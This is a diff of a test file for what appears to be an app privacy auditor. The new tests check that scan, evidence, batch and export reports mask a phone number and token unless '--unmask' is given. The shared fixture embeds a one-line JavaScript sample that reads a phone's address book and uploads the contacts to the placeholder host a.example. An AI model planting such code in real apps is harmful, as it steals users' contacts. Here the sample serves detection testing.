@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from dataclasses import replace
 from pathlib import Path
 
@@ -86,21 +87,61 @@ def test_long_texts_take_no_time() -> None:
         mask_text("@" + text + "123456789")
 
 
-def test_scan_masks_unless_told(tmp_path: Path) -> None:
-    from auditor.cli import run
+@pytest.fixture(scope="module")
+def carrier(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An app whose script carries a number and a token."""
     from tests.test_bad_input import with_files
 
     script = (
         b"plus.contacts.getAddressBook(0,function(b){b.find([],function(c){uni.request({url:"
         b"'https://a.example/u?phone=13800138000&token=abcdef123456',data:c})})})"
     )
-    app = tmp_path / "app.apk"
+    app = tmp_path_factory.mktemp("carrier") / "app.apk"
     app.write_bytes(with_files(**{"assets/www/a.js": script}))
-    for more in ((), ("--unmask",)):
-        out = tmp_path / f"out{len(more)}"
-        assert run(["scan", str(app), "-q", "-f", "json,html", "-o", str(out), *more]) == 0
-        for path in out.iterdir():
-            text = path.read_text("utf-8")
-            assert "https://a.example/u" in text
-            assert ("13800138000" in text) == bool(more)
-            assert ("abcdef123456" in text) == bool(more)
+    return app
+
+
+def shows(text: str, *, secrets: bool) -> None:
+    assert "https://a.example/u" in text
+    assert ("13800138000" in text) == secrets
+    assert ("abcdef123456" in text) == secrets
+
+
+UNMASK = pytest.mark.parametrize("more", [(), ("--unmask",)], ids=["masked", "unmasked"])
+
+
+@UNMASK
+def test_scan_masks_unless_told(carrier: Path, tmp_path: Path, more: tuple[str, ...]) -> None:
+    from auditor.cli import run
+
+    assert run(["scan", str(carrier), "-q", "-f", "json,html", "-o", str(tmp_path), *more]) == 0
+    assert len(list(tmp_path.iterdir())) == 2
+    for path in tmp_path.iterdir():
+        shows(path.read_text("utf-8"), secrets=bool(more))
+
+
+@UNMASK
+def test_evidence_masks_unless_told_and_holds(
+    carrier: Path, tmp_path: Path, more: tuple[str, ...]
+) -> None:
+    from auditor.cli import run
+
+    kept = tmp_path / "e.zip"
+    assert run(["evidence", str(carrier), "-o", str(kept), *more]) == 0
+    with zipfile.ZipFile(kept) as archive:
+        for name in ("report.json", "report.html"):
+            shows(archive.read(name).decode(), secrets=bool(more))
+    assert run(["verify", str(kept), "--app", str(carrier)]) == 0
+
+
+def test_a_batch_masks_unless_told(carrier: Path, tmp_path: Path) -> None:
+    """And judges anew when it is told otherwise."""
+    from auditor.cli import run
+
+    store = str(tmp_path / "store.db")
+    for number, more in enumerate([(), ("--unmask",), ()]):
+        asked = ["batch", str(carrier), "-s", store, "-q", "--workers", "1", *more]
+        assert run(asked) == 0
+        out = tmp_path / f"{number}.jsonl"
+        assert run(["export", "-s", store, "-o", str(out)]) == 0
+        shows(out.read_text("utf-8"), secrets=bool(more))
